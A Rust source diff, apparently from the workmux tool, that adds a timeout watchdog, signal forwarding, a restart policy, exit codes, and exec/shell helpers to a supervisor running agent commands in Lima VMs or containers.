@@ -4,23 +4,38 @@
 //! command inside a sandbox (Lima VM or Docker/Podman container).
 
 use anyhow::{Context, Result, bail};
-use std::path::{Path, PathBuf};
-use std::process::Command;
-use std::sync::Arc;
-use tracing::{debug, info, warn};
+use clap::ValueEnum;
+use std::io::IsTerminal;
+use std::os::unix::process::CommandExt;
+use std::path::{Component, Path, PathBuf};
+use std::process::{Command, ExitStatus, Stdio};
+use std::sync::atomic::{AtomicBool, AtomicU32, Ordering};
+use std::sync::{Arc, Mutex, mpsc};
+use std::thread;
+use std::time::{Duration, Instant, SystemTime, UNIX_EPOCH};
+use tracing::{Span, debug, field, info, info_span, warn};
 
 use std::collections::HashSet;
 
-use crate::config::{Config, SandboxBackend, SandboxRuntime};
-use crate::multiplexer;
+use crate::cmd;
+use crate::command::capture::{AnsiMode, clean_capture};
+use crate::command::set_window_status::{self, SetWindowStatusCommand};
+use crate::config::{Config, RestartPolicy, SandboxBackend, SandboxRuntime};
+use crate::multiplexer::{self, CaptureRange, Multiplexer};
 use crate::sandbox::build_docker_run_args;
 use crate::sandbox::ensure_sandbox_config_dirs;
+use crate::sandbox::env_file;
+use crate::sandbox::events::{self, Event, EventLog};
 use crate::sandbox::lima;
 use crate::sandbox::network_proxy::NetworkProxy;
-use crate::sandbox::rpc::{RpcContext, RpcServer, generate_token};
+use crate::sandbox::output::OutputBuffer;
+use crate::sandbox::rpc::{self, RpcContext, RpcServer};
 use crate::sandbox::shims;
+use crate::sandbox::stderr::{self, StderrBuffer};
+use crate::sandbox::tee::{self, PtyOutput};
 use crate::sandbox::toolchain;
-use crate::state::StateStore;
+use crate::shell::ShellQuoting;
+use crate::state::{SandboxInfo, StateStore};
 
 /// Guard that stops a container when dropped.
 /// Ensures cleanup even if the supervisor is killed or panics.
@@ -59,53 +74,1315 @@ impl Drop for ContainerGuard {
     }
 }
 
+/// Terminates a child once its deadline passes: SIGTERM first, then SIGKILL
+/// if it's still running after [`Watchdog::KILL_GRACE`].
+///
+/// Direct children are signalled too, since `limactl shell` runs `ssh` as a
+/// subprocess that would otherwise keep the guest command alive.
+struct Watchdog {
+    cancel: mpsc::Sender<()>,
+    fired: Arc<AtomicBool>,
+}
+
+impl Watchdog {
+    const KILL_GRACE: Duration = Duration::from_secs(5);
+
+    fn arm(pid: u32, timeout: Duration) -> Self {
+        let (cancel, cancelled) = mpsc::channel::<()>();
+        let fired = Arc::new(AtomicBool::new(false));
+        let flag = fired.clone();
+
+        thread::spawn(move || {
+            if cancelled.recv_timeout(timeout) != Err(mpsc::RecvTimeoutError::Timeout) {
+                return;
+            }
+            flag.store(true, Ordering::SeqCst);
+            warn!(pid, ?timeout, "agent command timed out, terminating");
+            signal_agent(pid, libc::SIGTERM);
+
+            if cancelled.recv_timeout(Self::KILL_GRACE) == Err(mpsc::RecvTimeoutError::Timeout) {
+                warn!(pid, "agent command ignored SIGTERM, killing");
+                signal_agent(pid, libc::SIGKILL);
+            }
+        });
+
+        Self { cancel, fired }
+    }
+
+    /// Stop watching. Returns whether the deadline had already passed.
+    fn disarm(self) -> bool {
+        let _ = self.cancel.send(());
+        self.fired.load(Ordering::SeqCst)
+    }
+}
+
+/// Send `signal` to the agent command `pid` and its direct children.
+fn signal_agent(pid: u32, signal: libc::c_int) {
+    let _ = Command::new("pkill")
+        .args([&format!("-{}", signal), "-P", &pid.to_string()])
+        .output();
+    // SAFETY: kill has no memory-safety preconditions
+    unsafe { libc::kill(pid as libc::pid_t, signal) };
+}
+
+/// Exit code after the supervisor was interrupted: 128 + SIGINT, as shells
+/// report it.
+pub const EXIT_INTERRUPTED: i32 = 130;
+
+/// Counts SIGINT/SIGTERM/SIGHUP deliveries to the supervisor and remembers
+/// the running agent command, so the signal handler can forward to it.
+struct Interrupts {
+    count: AtomicU32,
+    /// Pid of the agent command, 0 while none is running
+    agent_pid: AtomicU32,
+}
+
+static INTERRUPTS: Interrupts = Interrupts::new();
+
+impl Interrupts {
+    const fn new() -> Self {
+        Self {
+            count: AtomicU32::new(0),
+            agent_pid: AtomicU32::new(0),
+        }
+    }
+
+    /// Record a signal. Returns whether it's the first one.
+    fn record(&self) -> bool {
+        self.count.fetch_add(1, Ordering::SeqCst) == 0
+    }
+
+    fn interrupted(&self) -> bool {
+        self.count.load(Ordering::SeqCst) > 0
+    }
+
+    /// The agent command started (`Some`) or exited (`None`). A signal that
+    /// arrived before it started is forwarded right away.
+    fn set_agent(&self, pid: Option<u32>) {
+        self.agent_pid.store(pid.unwrap_or(0), Ordering::SeqCst);
+        if let Some(pid) = pid
+            && self.interrupted()
+        {
+            signal_agent(pid, libc::SIGINT);
+        }
+    }
+
+    fn agent(&self) -> Option<u32> {
+        Some(self.agent_pid.load(Ordering::SeqCst)).filter(|&pid| pid != 0)
+    }
+}
+
+/// Handle SIGINT, SIGTERM and SIGHUP for the rest of the supervisor's life.
+///
+/// Without a handler, a signal kills the supervisor on the spot and skips
+/// its teardown: the RPC server, container, window status and worktree lock
+/// are left behind. Instead, the first signal is forwarded to the agent
+/// command (with SIGINT) and `run` tears down normally once it exits,
+/// returning [`EXIT_INTERRUPTED`]. A second signal exits immediately, in
+/// case the agent or the teardown hangs.
+fn install_interrupt_handler() {
+    let result = ctrlc::set_handler(|| {
+        if !INTERRUPTS.record() {
+            eprintln!("workmux: interrupted again, exiting without cleanup");
+            std::process::exit(EXIT_INTERRUPTED);
+        }
+        if let Some(pid) = INTERRUPTS.agent() {
+            signal_agent(pid, libc::SIGINT);
+        }
+    });
+    if let Err(e) = result {
+        warn!(error = %e, "failed to install the interrupt handler");
+    }
+}
+
+/// Run the agent command to completion, teeing, recording or buffering its
+/// output when asked to.
+///
+/// With `stderr`, the command's stderr is piped through that buffer (and
+/// still echoed) instead of inherited, and its stdin is closed, so it runs
+/// without a TTY.
+///
+/// With a `timeout`, a [`Watchdog`] terminates the command once it expires,
+/// and `Ok(None)` is returned in place of its exit status.
+fn run_agent_command(
+    cmd: &mut Command,
+    output: &PtyOutput,
+    stderr: Option<&StderrBuffer>,
+    timeout: Option<Duration>,
+) -> Result<Option<ExitStatus>> {
+    let mut watchdog = None;
+    let mut arm = |pid: u32| {
+        INTERRUPTS.set_agent(Some(pid));
+        watchdog = timeout.map(|t| Watchdog::arm(pid, t));
+    };
+
+    let status = if let Some(buffer) = stderr {
+        let mut child = cmd.stdin(Stdio::null()).stderr(Stdio::piped()).spawn()?;
+        arm(child.id());
+        let pipe = child.stderr.take().expect("stderr is piped");
+        let buffer = buffer.clone();
+        let relay = thread::spawn(move || stderr::relay(pipe, &buffer));
+        let status = child.wait()?;
+        let _ = relay.join();
+        status
+    } else if output.is_empty() {
+        let mut child = cmd.spawn()?;
+        arm(child.id());
+        child.wait()?
+    } else {
+        tee::run_on_pty(cmd, output, arm)?
+    };
+    INTERRUPTS.set_agent(None);
+
+    let timed_out = watchdog.is_some_and(Watchdog::disarm);
+    Ok((!timed_out).then_some(status))
+}
+
+/// Restarts allowed by `sandbox.restart` when `--max-restarts` isn't given.
+pub const DEFAULT_MAX_RESTARTS: u32 = 3;
+
+/// Pause before re-running an agent, so one that fails on startup doesn't
+/// spin.
+const RESTART_DELAY: Duration = Duration::from_secs(1);
+
+/// Run the agent command, then re-run it for as long as
+/// `supervisor.restart` asks for it and `supervisor.max_restarts` allows.
+/// The VM or container, RPC server and token are reused across runs, and
+/// each run is reported with its own `agent_started`/`agent_exited` events.
+///
+/// `timeout` bounds all runs together: each restart only gets the time
+/// left, and no restart happens once it has run out.
+///
+/// Returns the last run's exit code, or `Ok(None)` if the timeout
+/// terminated it.
+fn supervise_agent(
+    cmd: &mut Command,
+    command_line: &str,
+    output: &PtyOutput,
+    timeout: Option<Duration>,
+    supervisor: &SupervisorContext,
+) -> Result<Option<i32>> {
+    let deadline = timeout.map(|t| Instant::now() + t);
+    let remaining = || deadline.map(|d| d.saturating_duration_since(Instant::now()));
+    let mut restarts = 0;
+    loop {
+        let span = info_span!("agent", attempt = restarts + 1, exit_code = field::Empty).entered();
+        events::emit(
+            supervisor.events,
+            Event::AgentStarted {
+                command: command_line.to_string(),
+            },
+        );
+        let status = run_agent_command(cmd, output, supervisor.stderr.as_ref(), remaining())?;
+        let Some(status) = status else {
+            events::emit(
+                supervisor.events,
+                Event::AgentExited {
+                    exit_code: EXIT_TIMEOUT,
+                },
+            );
+            return Ok(None);
+        };
+        let exit_code = status.code().unwrap_or(1);
+        span.record("exit_code", exit_code);
+        info!(exit_code, "agent command exited");
+        events::emit(supervisor.events, Event::AgentExited { exit_code });
+
+        if INTERRUPTS.interrupted() || !supervisor.restart.should_restart(exit_code) {
+            return Ok(Some(exit_code));
+        }
+        if restarts == supervisor.max_restarts {
+            warn!(exit_code, restarts, "agent restart limit reached");
+            eprintln!(
+                "workmux: agent exited with code {}; not restarting after {} restart(s)",
+                exit_code, restarts
+            );
+            return Ok(Some(exit_code));
+        }
+        if remaining().is_some_and(|left| left <= RESTART_DELAY) {
+            warn!(exit_code, "no time left to restart the agent");
+            eprintln!(
+                "workmux: agent exited with code {}; not restarting, --timeout has nearly run out",
+                exit_code
+            );
+            return Ok(Some(exit_code));
+        }
+        restarts += 1;
+        warn!(
+            exit_code,
+            restart = restarts,
+            max = supervisor.max_restarts,
+            "restarting agent"
+        );
+        eprintln!(
+            "workmux: agent exited with code {}; restarting ({}/{})",
+            exit_code, restarts, supervisor.max_restarts
+        );
+        thread::sleep(RESTART_DELAY);
+        if INTERRUPTS.interrupted() {
+            return Ok(Some(exit_code));
+        }
+    }
+}
+
+/// Exit code for supervisor failures not covered by a more specific code.
+pub const EXIT_SUPERVISOR_FAILED: i32 = 120;
+
+/// Exit code when `--timeout` terminated the agent; same as coreutils `timeout`.
+pub const EXIT_TIMEOUT: i32 = 124;
+
+/// Why the sandbox supervisor failed. Each kind maps to a reserved exit code
+/// (120-124) so callers can tell them apart from the agent's own exit
+/// status, which is passed through unchanged.
+#[derive(Debug, thiserror::Error)]
+pub enum SandboxError {
+    #[error("No command specified. Usage: workmux sandbox run <worktree> -- <command...>")]
+    EmptyCommand,
+    /// The Lima VM (or named VM) couldn't be started or reached over SSH
+    #[error("Failed to start the sandbox")]
+    VmStart(#[source] anyhow::Error),
+    /// The RPC server couldn't bind a port or register itself
+    #[error("Failed to start the sandbox RPC server")]
+    RpcBind(#[source] anyhow::Error),
+    /// The preflight probe couldn't reach the RPC server from the guest
+    #[error("The sandbox can't reach the RPC server")]
+    RpcUnreachable(#[source] anyhow::Error),
+    /// `limactl shell` couldn't be executed
+    #[error(transparent)]
+    LimaSpawn(anyhow::Error),
+    /// The container runtime couldn't be executed
+    #[error("Failed to launch the sandboxed command")]
+    ContainerSpawn(#[source] anyhow::Error),
+    #[error("Agent command timed out after {limit}")]
+    Timeout { limit: String, source: Terminated },
+    /// Anything else, e.g. invalid config
+    #[error(transparent)]
+    Other(#[from] anyhow::Error),
+}
+
+/// Cause attached to [`SandboxError::Timeout`].
+#[derive(Debug, thiserror::Error)]
+#[error("The sandboxed command timed out and was terminated")]
+pub struct Terminated;
+
+impl SandboxError {
+    pub fn exit_code(&self) -> i32 {
+        match self {
+            SandboxError::VmStart(_) => 121,
+            SandboxError::RpcBind(_) | SandboxError::RpcUnreachable(_) => 122,
+            SandboxError::LimaSpawn(_) | SandboxError::ContainerSpawn(_) => 123,
+            SandboxError::Timeout { .. } => EXIT_TIMEOUT,
+            SandboxError::EmptyCommand | SandboxError::Other(_) => EXIT_SUPERVISOR_FAILED,
+        }
+    }
+}
+
+/// When to keep the pane open after the agent command exits.
+#[derive(ValueEnum, Debug, Clone, Copy, PartialEq, Eq)]
+pub enum HoldMode {
+    /// Always wait for a keypress before returning
+    Always,
+    /// Only wait when the agent exited with a non-zero status
+    OnFailure,
+}
+
+impl HoldMode {
+    fn should_hold(self, exit_code: i32) -> bool {
+        match self {
+            HoldMode::Always => true,
+            HoldMode::OnFailure => exit_code != 0,
+        }
+    }
+}
+
+/// Options for [`run`], from the `sandbox run` flags. The defaults run the
+/// command with inherited stdio and nothing else enabled.
+#[derive(Clone, Default)]
+pub struct RunOptions {
+    /// Worktree root, when the worktree given is a subdirectory of it
+    pub worktree_root: Option<PathBuf>,
+    /// Snapshot the Lima VM once the agent exits, using the given tag or one
+    /// derived from the worktree and current time
+    pub snapshot_on_exit: Option<Option<String>>,
+    /// Where output is copied besides the pane. When set, the command runs
+    /// on a PTY; with `tee` its output is also appended to that file, with
+    /// `record` it is recorded there as an asciinema v2 cast, and with
+    /// `buffer` the most recent output is kept there for the RPC `tail`
+    /// method
+    pub output: PtyOutput,
+    /// Keep the agent's stderr for the RPC server
+    pub buffer_stderr: bool,
+    /// Terminate the command once this much time has passed, returning
+    /// [`SandboxError::Timeout`]. Only the guest command is killed; the VM
+    /// keeps running for the next invocation.
+    pub timeout: Option<Duration>,
+    /// Run even when another live supervisor holds the worktree
+    pub force: bool,
+    /// Lima VM to use instead of the one derived from the worktree
+    pub vm_name: Option<String>,
+    /// File (or FIFO) lifecycle events are appended to as JSON lines; see
+    /// [`crate::sandbox::events`]
+    pub events: Option<PathBuf>,
+    /// `--env KEY=VALUE` pairs, set in the guest after the config-driven
+    /// variables so they win on conflict
+    pub env: Vec<(String, String)>,
+    /// Host command run once the agent has exited or timed out, overriding
+    /// `sandbox.post_run`; see [`run_post_run`]
+    pub post_run: Option<String>,
+    /// Run the agent under `sh -c` instead of the guest's login shell,
+    /// overriding `sandbox.lima.login_shell`
+    pub no_login_shell: bool,
+    /// How often `sandbox.restart` re-runs the agent (default
+    /// [`DEFAULT_MAX_RESTARTS`]); see [`supervise_agent`]
+    pub max_restarts: Option<u32>,
+    /// Directory in the worktree to run the agent in, overriding
+    /// `sandbox.workdir`
+    pub workdir: Option<String>,
+    /// File to read the RPC token from instead of generating one
+    pub token_file: Option<PathBuf>,
+    /// Pane window status goes to (`--pane-id`), before `WM_PANE_ID` and
+    /// the pane the supervisor runs in; see [`resolve_pane_id`]
+    pub pane_id: Option<String>,
+}
+
 /// Run the sandbox supervisor.
 ///
 /// Detects the sandbox backend from config and dispatches to the
-/// appropriate handler (Lima VM or Docker/Podman container).
-pub fn run(worktree: PathBuf, worktree_root: Option<PathBuf>, command: Vec<String>) -> Result<i32> {
+/// appropriate handler (Lima VM or Docker/Podman container). `--hold` is
+/// applied by the caller once any error is reported; see [`hold_pane`].
+///
+/// SIGINT, SIGTERM and SIGHUP are forwarded to the agent command, after
+/// which the supervisor tears down as usual and returns
+/// [`EXIT_INTERRUPTED`]; see [`install_interrupt_handler`].
+///
+/// The supervisor holds a [`SupervisorLock`] on the worktree while it runs.
+/// Unless `options.force` is set, finding another live supervisor holding
+/// it is an error.
+///
+/// Returns the agent's exit code. Errors are supervisor failures; map them
+/// to an exit code with [`SandboxError::exit_code`].
+pub fn run(
+    worktree: PathBuf,
+    command: Vec<String>,
+    options: RunOptions,
+) -> Result<i32, SandboxError> {
+    let RunOptions {
+        worktree_root,
+        snapshot_on_exit,
+        output,
+        buffer_stderr,
+        timeout,
+        force,
+        vm_name,
+        events,
+        env,
+        post_run,
+        no_login_shell,
+        max_restarts,
+        workdir,
+        token_file,
+        pane_id,
+    } = options;
+    if command.is_empty() {
+        return Err(SandboxError::EmptyCommand);
+    }
+
+    install_interrupt_handler();
+    let mut config = Config::load(None)?;
+    if no_login_shell {
+        config.sandbox.lima.login_shell = Some(false);
+    }
+    let rpc_token = token_file
+        .as_deref()
+        .map(rpc::read_token_file)
+        .transpose()?;
+    let worktree = worktree.canonicalize().unwrap_or_else(|_| worktree.clone());
+
+    let wt_root = worktree_root
+        .map(|p| p.canonicalize().unwrap_or(p))
+        .unwrap_or_else(|| worktree.clone());
+    let worktree = match workdir.as_deref().or(config.sandbox.workdir.as_deref()) {
+        Some(workdir) => resolve_workdir(&wt_root, workdir)?,
+        None => worktree,
+    };
+
+    // Fields not known yet are recorded once they're resolved
+    let run_span = info_span!(
+        "sandbox_run",
+        worktree = %worktree.display(),
+        backend = ?config.sandbox.backend(),
+        vm_name = field::Empty,
+        rpc_port = field::Empty,
+        exit_code = field::Empty,
+    );
+    let _entered = run_span.enter();
+
+    // Without a pane there's nothing to report status to; the agent still
+    // runs, with an empty pane id
+    let mux = multiplexer::current();
+    let pane_id = resolve_pane_id(pane_id, std::env::var("WM_PANE_ID").ok(), || {
+        mux.current_pane_id()
+    });
+    if pane_id.is_none() {
+        warn!(
+            "no multiplexer pane detected; window status updates will be no-ops \
+             (pass --pane-id or set WM_PANE_ID to choose the pane)"
+        );
+    }
+    let _lock = SupervisorLock::acquire(&wt_root, pane_id.as_deref(), force)?;
+    let events = events
+        .map(|path| EventLog::open(&path, &worktree, pane_id.as_deref().unwrap_or("")))
+        .transpose()?;
+    let supervisor = SupervisorContext {
+        mux,
+        events: events.as_ref(),
+        stderr: buffer_stderr.then(StderrBuffer::default),
+        output: output.buffer.clone(),
+        env: &env,
+        restart: config.sandbox.restart(),
+        max_restarts: max_restarts.unwrap_or(DEFAULT_MAX_RESTARTS),
+        rpc_token,
+        pane_id,
+    };
+
+    let result = match config.sandbox.backend() {
+        SandboxBackend::Lima => run_lima(
+            &config,
+            &worktree,
+            &wt_root,
+            &command,
+            snapshot_on_exit,
+            &output,
+            timeout,
+            vm_name.as_deref(),
+            &supervisor,
+        ),
+        SandboxBackend::Container if vm_name.is_some() => {
+            return Err(
+                anyhow::anyhow!("--vm-name is only supported with the Lima backend").into(),
+            );
+        }
+        SandboxBackend::Container => {
+            if snapshot_on_exit.is_some() {
+                warn!("--snapshot-on-exit is only supported with the Lima backend; ignoring");
+            }
+            run_container(
+                &config,
+                &worktree,
+                &wt_root,
+                &command,
+                &output,
+                timeout,
+                &supervisor,
+            )
+        }
+    };
+    if let Some(pane_id) = &supervisor.pane_id {
+        // Only when the agent ran; there's no final screen otherwise
+        if config.sandbox.capture_on_exit()
+            && matches!(result, Ok(_) | Err(SandboxError::Timeout { .. }))
+        {
+            match StateStore::new() {
+                Ok(store) => capture_on_exit(
+                    supervisor.mux.as_ref(),
+                    pane_id,
+                    &store,
+                    &wt_root,
+                    config.sandbox.capture_on_exit_lines(),
+                ),
+                Err(e) => warn!(error = %e, "failed to save capture on exit"),
+            }
+        }
+        clear_agent_status(&config, supervisor.mux.as_ref(), pane_id);
+    }
+    let interrupted = INTERRUPTS.interrupted();
+    if interrupted {
+        info!("supervisor interrupted, agent stopped");
+    }
+    let result = result.map(|exit_code| {
+        if interrupted {
+            EXIT_INTERRUPTED
+        } else {
+            exit_code
+        }
+    });
+    if let Some(post_run) = post_run.as_deref().or(config.sandbox.post_run.as_deref()) {
+        match &result {
+            Ok(exit_code) => run_post_run(post_run, &worktree, *exit_code),
+            Err(e @ SandboxError::Timeout { .. }) => {
+                run_post_run(post_run, &worktree, e.exit_code())
+            }
+            // The agent never ran
+            Err(_) => {}
+        }
+    }
+    let exit_code = result?;
+    run_span.record("exit_code", exit_code);
+    Ok(exit_code)
+}
+
+/// With `hold`, print how the run ended and wait for a keypress so the
+/// pane stays open for review. `exit_code` is the agent's, or the
+/// supervisor's own when `supervisor_failed`, which counts as a failure so
+/// its error stays on screen too. Skipped after an interrupt.
+pub fn hold_pane(hold: Option<HoldMode>, exit_code: i32, supervisor_failed: bool) {
+    if let Some(mode) = hold
+        && !INTERRUPTS.interrupted()
+        && mode.should_hold(exit_code)
+    {
+        wait_for_keypress(&exit_message(exit_code, supervisor_failed));
+    }
+}
+
+/// The line shown above the keypress prompt of `--hold`.
+fn exit_message(exit_code: i32, supervisor_failed: bool) -> String {
+    if supervisor_failed {
+        format!("[sandbox failed with code {}]", exit_code)
+    } else {
+        format!("[agent exited with code {}]", exit_code)
+    }
+}
+
+/// Run the post-run hook on the host, in `worktree`, with the agent's exit
+/// code in `WM_AGENT_EXIT` and the worktree path in `WM_WORKTREE`.
+///
+/// A failing hook is logged and reported, but never changes the exit code
+/// the supervisor returns.
+fn run_post_run(command: &str, worktree: &Path, exit_code: i32) {
+    let exit = exit_code.to_string();
+    let worktree_str = worktree.to_string_lossy();
+    let env = [
+        ("WM_AGENT_EXIT", exit.as_str()),
+        ("WM_WORKTREE", worktree_str.as_ref()),
+    ];
+    info!(command, exit_code, "running post-run hook");
+    if let Err(e) = cmd::shell_command_with_env(command, worktree, &env) {
+        warn!(error = %e, "post-run hook failed");
+        eprintln!("workmux: post-run hook failed: {:#}", e);
+    }
+}
+
+/// Where the supervisor reports to: the multiplexer it runs under (used for
+/// the pane id and status updates), the optional `--events` log, and the
+/// stderr and output buffers served over RPC with `--buffer-stderr` and
+/// `--buffer-output`.
+struct SupervisorContext<'a> {
+    mux: Arc<dyn Multiplexer>,
+    events: Option<&'a EventLog>,
+    stderr: Option<StderrBuffer>,
+    output: Option<OutputBuffer>,
+    /// `--env` assignments
+    env: &'a [(String, String)],
+    /// `sandbox.restart`
+    restart: RestartPolicy,
+    /// `--max-restarts`
+    max_restarts: u32,
+    /// Token read from `--token-file`, used instead of a generated one
+    rpc_token: Option<String>,
+    /// The pane window status is reported to, from [`resolve_pane_id`]
+    pane_id: Option<String>,
+}
+
+/// The pane the supervisor reports window status to: the `--pane-id`
+/// flag, then the `WM_PANE_ID` environment variable, then the pane it's
+/// running in, for supervisors started outside the agent's pane. Empty
+/// values count as unset.
+fn resolve_pane_id(
+    flag: Option<String>,
+    env: Option<String>,
+    detect: impl FnOnce() -> Option<String>,
+) -> Option<String> {
+    flag.into_iter()
+        .chain(env)
+        .find(|id| !id.is_empty())
+        .or_else(|| detect().filter(|id| !id.is_empty()))
+}
+
+/// Where `sandbox.capture_on_exit` saves the final screen, in the
+/// worktree's state directory.
+const LAST_CAPTURE_FILE: &str = "last-capture.txt";
+
+/// Save the last `lines` of the agent's pane, ANSI stripped, to
+/// `last-capture.txt` in the worktree's state directory
+/// (`sandbox.capture_on_exit`). Not in the worktree itself: the agent could
+/// have replaced that path with a symlink to a host file. Best effort: a
+/// pane that's already gone or a failed write is only logged.
+fn capture_on_exit(
+    mux: &dyn Multiplexer,
+    pane_id: &str,
+    store: &StateStore,
+    worktree_root: &Path,
+    lines: u16,
+) {
+    // The screen's empty bottom rows would count towards the last `lines`,
+    // so take everything and trim after dropping them
+    let output = match mux.capture_pane(pane_id, CaptureRange::All) {
+        Ok(output) => output,
+        Err(e) => {
+            debug!(pane_id, error = %e, "pane is gone; skipping capture on exit");
+            return;
+        }
+    };
+    let text =
+        clean_capture(&output, CaptureRange::Lines(lines), AnsiMode::Strip).join("\n") + "\n";
+    let saved = store.worktree_dir(worktree_root).and_then(|dir| {
+        let path = dir.join(LAST_CAPTURE_FILE);
+        std::fs::write(&path, text)
+            .with_context(|| format!("Failed to write {}", path.display()))?;
+        Ok(path)
+    });
+    match saved {
+        Ok(path) => info!(path = %path.display(), "saved the agent's final screen"),
+        Err(e) => warn!(error = %e, "failed to save capture on exit"),
+    }
+}
+
+/// Reset the pane's window status once the agent is gone.
+///
+/// An agent that crashes never fires its stop hook, which would leave the
+/// window showing "working" indefinitely. Goes through the debounced path so
+/// a status update still in flight from the agent can't land afterwards.
+fn clear_agent_status(config: &Config, mux: &dyn Multiplexer, pane_id: &str) {
+    if let Err(e) = set_window_status::apply_debounced(
+        mux,
+        pane_id,
+        &SetWindowStatusCommand::Clear,
+        &Default::default(),
+        config,
+    ) {
+        warn!(pane_id = %pane_id, error = %e, "failed to clear window status");
+    }
+}
+
+/// Where `sandbox run --scratch` directories are created. It's a git
+/// repository of its own, so scratch runs count as one project (and, with
+/// Lima project isolation, share one VM) without needing a real worktree.
+fn scratch_root(state_dir: &Path) -> Result<PathBuf> {
+    let root = state_dir.join("workmux/scratch");
+    if !root.join(".git").exists() {
+        std::fs::create_dir_all(&root)
+            .with_context(|| format!("Failed to create {}", root.display()))?;
+        cmd::Cmd::new("git")
+            .args(&["init", "--quiet"])
+            .workdir(&root)
+            .run()
+            .context("Failed to set up the scratch directory repository")?;
+    }
+    Ok(root)
+}
+
+/// Create an empty directory for `sandbox run --scratch` to use as the
+/// worktree. It's removed when the returned handle is dropped or closed.
+pub fn create_scratch() -> Result<tempfile::TempDir> {
+    create_scratch_in(&crate::state::store::get_state_dir()?)
+}
+
+fn create_scratch_in(state_dir: &Path) -> Result<tempfile::TempDir> {
+    let root = scratch_root(state_dir)?;
+    let dir = tempfile::Builder::new()
+        .prefix("run-")
+        .tempdir_in(&root)
+        .with_context(|| format!("Failed to create a scratch directory in {}", root.display()))?;
+    info!(path = %dir.path().display(), "created scratch directory");
+    Ok(dir)
+}
+
+/// Relaunch this `sandbox run` invocation, minus `--detach`, in a new
+/// background multiplexer window, and print the ID of its pane.
+///
+/// The relaunched supervisor is an ordinary foreground `sandbox run`, so the
+/// RPC server and status updates work exactly as in panes workmux sets up.
+pub fn detach(worktree: &Path) -> Result<()> {
+    let mux = multiplexer::require_running()?;
+    let exe = std::env::current_exe().context("Failed to locate the workmux executable")?;
+    let args: Vec<String> = std::env::args_os()
+        .skip(1)
+        .map(|a| a.to_string_lossy().into_owned())
+        .collect();
+    let command = std::iter::once(exe.to_string_lossy().into_owned())
+        .chain(without_detach(args))
+        .map(|a| crate::shell::shell_quote(&a))
+        .collect::<Vec<_>>()
+        .join(" ");
+
+    // Same cwd as ours, so relative paths in the arguments still resolve
+    let cwd = std::env::current_dir()?;
+    let worktree = worktree
+        .canonicalize()
+        .unwrap_or_else(|_| worktree.to_path_buf());
+    let name = format!("sandbox-{}", worktree_handle(&worktree));
+
+    let pane_id = mux
+        .new_window(&name, &cwd, &command)
+        .with_context(|| format!("Failed to open a {} window for the supervisor", mux.name()))?;
+    println!("{}", pane_id);
+    Ok(())
+}
+
+/// Drop `--detach` from a `sandbox run` argument list, leaving anything after
+/// `--` (the sandboxed command) untouched.
+fn without_detach(args: Vec<String>) -> Vec<String> {
+    let mut in_command = false;
+    args.into_iter()
+        .filter(|arg| {
+            if in_command {
+                return true;
+            }
+            in_command = arg == "--";
+            arg != "--detach"
+        })
+        .collect()
+}
+
+/// Print the command the supervisor would run, without executing anything.
+///
+/// Only the Lima backend is supported.
+pub fn dry_run(
+    worktree: PathBuf,
+    command: Vec<String>,
+    vm_name: Option<String>,
+    env: Vec<(String, String)>,
+    no_login_shell: bool,
+    workdir: Option<String>,
+) -> Result<()> {
     if command.is_empty() {
         bail!("No command specified. Usage: workmux sandbox run <worktree> -- <command...>");
     }
 
-    let config = Config::load(None)?;
+    let mut config = Config::load(None)?;
+    if no_login_shell {
+        config.sandbox.lima.login_shell = Some(false);
+    }
     let worktree = worktree.canonicalize().unwrap_or_else(|_| worktree.clone());
+    let worktree = match workdir.as_deref().or(config.sandbox.workdir.as_deref()) {
+        Some(workdir) => resolve_workdir(&worktree, workdir)?,
+        None => worktree,
+    };
 
     match config.sandbox.backend() {
-        SandboxBackend::Lima => run_lima(&config, &worktree, &command),
+        SandboxBackend::Lima => {
+            dry_run_lima(&config, &worktree, &command, vm_name.as_deref(), &env)
+        }
         SandboxBackend::Container => {
-            let wt_root = worktree_root
-                .map(|p| p.canonicalize().unwrap_or(p))
-                .unwrap_or_else(|| worktree.clone());
-            run_container(&config, &worktree, &wt_root, &command)
+            bail!("--dry-run is only supported with the Lima backend")
+        }
+    }
+}
+
+/// The directory `workdir` (`--workdir` or `sandbox.workdir`) names,
+/// relative to the worktree `root`. The worktree is mounted at the same path
+/// in the guest, so it has to exist here and stay inside the worktree.
+fn resolve_workdir(root: &Path, workdir: &str) -> Result<PathBuf> {
+    let relative = Path::new(workdir);
+    if workdir.is_empty()
+        || !relative
+            .components()
+            .all(|c| matches!(c, Component::Normal(_) | Component::CurDir))
+    {
+        bail!(
+            "Sandbox workdir '{}' must be a path inside the worktree, relative to its root",
+            workdir
+        );
+    }
+    let dir = root.join(relative);
+    let resolved = dir.canonicalize().with_context(|| {
+        format!(
+            "Sandbox workdir '{}' does not exist in the worktree ({})",
+            workdir,
+            dir.display()
+        )
+    })?;
+    if !resolved.starts_with(root) {
+        bail!("Sandbox workdir '{}' escapes the worktree", workdir);
+    }
+    if !resolved.is_dir() {
+        bail!("Sandbox workdir '{}' is not a directory", workdir);
+    }
+    Ok(resolved)
+}
+
+/// Run a one-off `command` in the Lima VM of the worktree at `worktree`
+/// (`workmux exec`), starting the VM if needed.
+///
+/// Unlike [`run`] there is no agent: no RPC server, supervisor lock or
+/// window status. Returns the command's exit code.
+pub fn exec(worktree: &Path, command: &[String]) -> Result<i32, SandboxError> {
+    if command.is_empty() {
+        return Err(SandboxError::EmptyCommand);
+    }
+    let status = vm_command(worktree, command, "workmux exec")?
+        .status()
+        .map_err(|e| {
+            SandboxError::LimaSpawn(lima::limactl_spawn_error(
+                e,
+                "Failed to execute limactl shell",
+            ))
+        })?;
+    Ok(status.code().unwrap_or(1))
+}
+
+/// Replace this process with an interactive shell in the Lima VM of the
+/// worktree at `worktree` (`workmux sandbox shell <worktree>`), or with
+/// `command` when one is given. The shell inherits the terminal, and
+/// signals reach it directly since workmux is no longer running.
+///
+/// The environment and workdir are those of [`exec`]. Only returns if the
+/// shell couldn't be started.
+pub fn shell(worktree: &Path, command: &[String]) -> SandboxError {
+    let command = if command.is_empty() {
+        vec![guest_shell_command(std::env::var("SHELL").ok().as_deref())]
+    } else {
+        command.to_vec()
+    };
+    match vm_command(worktree, &command, "workmux sandbox shell <worktree>") {
+        Ok(mut cmd) => SandboxError::LimaSpawn(lima::limactl_spawn_error(
+            cmd.exec(),
+            "Failed to execute limactl shell",
+        )),
+        Err(e) => e,
+    }
+}
+
+/// Command that runs `command` in the Lima VM of the worktree at
+/// `worktree`, starting the VM if needed, with the environment of
+/// `sandbox run` minus the RPC variables. `what` names the caller in the
+/// error for other backends.
